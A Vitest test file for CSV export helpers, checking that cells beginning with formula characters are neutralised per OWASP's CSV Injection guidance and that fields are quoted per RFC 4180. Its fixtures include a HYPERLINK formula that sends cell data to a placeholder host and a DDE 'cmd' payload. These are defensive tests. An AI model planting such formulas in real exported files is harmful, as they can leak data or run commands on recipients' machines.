/**
 * Source: OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells that begin
 * with =, +, -, @, tab (0x09) or carriage return (0x0D) may be run as formulas by spreadsheet
 * software; prefix them with a single quote and quote the field. Field quoting: RFC 4180 §2.
 */
import { describe, expect, it } from "vitest";
import { escapeCsvCell, toCsv } from "@/lib/csv";

describe("escapeCsvCell", () => {
  it("neutralises text that a spreadsheet could run as a formula (OWASP CSV Injection)", () => {
    expect(escapeCsvCell("=1+1")).toBe("'=1+1");
    expect(escapeCsvCell("+41 79 000 00 00")).toBe("'+41 79 000 00 00");
    expect(escapeCsvCell("-2+3")).toBe("'-2+3");
    expect(escapeCsvCell("@SUM(A1:A2)")).toBe("'@SUM(A1:A2)");
    expect(escapeCsvCell("\t=1")).toBe("'\t=1");
    expect(escapeCsvCell("\r=1")).toBe(`"'\r=1"`);
  });

  it("quotes and escapes the classic payload", () => {
    expect(escapeCsvCell('=HYPERLINK("http://x.example?d="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://x.example?d=""&A1,""Click"")"`,
    );
  });

  it("quotes fields with quotes, commas, semicolons or line breaks (RFC 4180)", () => {
    expect(escapeCsvCell('Said "hi"')).toBe('"Said ""hi"""');
    expect(escapeCsvCell("Kovac, Anna")).toBe('"Kovac, Anna"');
    expect(escapeCsvCell("a;b")).toBe('"a;b"');
    expect(escapeCsvCell("line 1\nline 2")).toBe('"line 1\nline 2"');
    expect(escapeCsvCell("Anna Kovac")).toBe("Anna Kovac");
    expect(escapeCsvCell("")).toBe("");
  });

  it("writes numbers as numbers: a negative score is data, not a formula", () => {
    expect(escapeCsvCell(-1.5)).toBe("-1.5");
    expect(escapeCsvCell(0)).toBe("0");
    expect(escapeCsvCell(42.25)).toBe("42.25");
    // The same characters typed as text are escaped.
    expect(escapeCsvCell("-1.5")).toBe("'-1.5");
  });

  it("writes missing values and non-numbers as empty cells", () => {
    expect(escapeCsvCell(null)).toBe("");
    expect(escapeCsvCell(undefined)).toBe("");
    expect(escapeCsvCell(Number.NaN)).toBe("");
    expect(escapeCsvCell(Number.POSITIVE_INFINITY)).toBe("");
  });
});

describe("toCsv", () => {
  it("joins escaped cells with commas and rows with CRLF, ending with a line break", () => {
    expect(
      toCsv([
        ["athlete", "value"],
        ["=cmd|' /C calc'!A0", -3.2],
        ["Kovac, Anna", null],
      ]),
    ).toBe("athlete,value\r\n'=cmd|' /C calc'!A0,-3.2\r\n\"Kovac, Anna\",\r\n");
    expect(toCsv([])).toBe("");
  });
});
